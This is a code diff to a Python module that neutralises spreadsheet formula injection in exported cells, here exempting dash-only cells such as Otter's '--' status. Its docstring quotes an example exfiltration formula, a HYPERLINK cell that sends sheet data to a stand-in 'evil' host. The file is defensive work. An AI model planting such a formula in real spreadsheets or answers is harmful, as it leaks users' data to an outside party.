@@ -7,7 +7,7 @@ of the files they uploaded. Excel, LibreOffice and Google Sheets run a cell that
 opens the file, so ``=HYPERLINK("http://evil/?"&A1, "click")`` in an answer would leak the sheet.
 The OWASP "CSV Injection" rule is followed: such a cell gets a leading single quote (which the
 spreadsheet shows as text); a value that is really a number (a negative score, ``-1.5``) stays a
-number.
+number, and so does a cell of dashes only (Otter's ``--``), which calls and references nothing.
 
 Reading back: :func:`restore` removes exactly the quote :func:`neutralise` added, so
 ``restore(neutralise(s)) == s`` for every string (a value that itself starts with a quote before
@@ -28,6 +28,8 @@ FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 QUOTE = "'"
 _LEADING_BLANKS = " \t\r\n"
 _NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+_DASHES = re.compile(r"-+")
+"""a cell of dashes only (Otter's ``--`` status of the points row) runs nothing: kept as is"""
 
 
 def _triggers(text: str) -> bool:
@@ -36,7 +38,7 @@ def _triggers(text: str) -> bool:
         return False
     stripped = text.lstrip(_LEADING_BLANKS)
     if text[0] in FORMULA_TRIGGERS or (stripped and stripped[0] in FORMULA_TRIGGERS[:4]):
-        return not _NUMBER.fullmatch(text.strip())
+        return not (_NUMBER.fullmatch(text.strip()) or _DASHES.fullmatch(text))
     return False
 
 
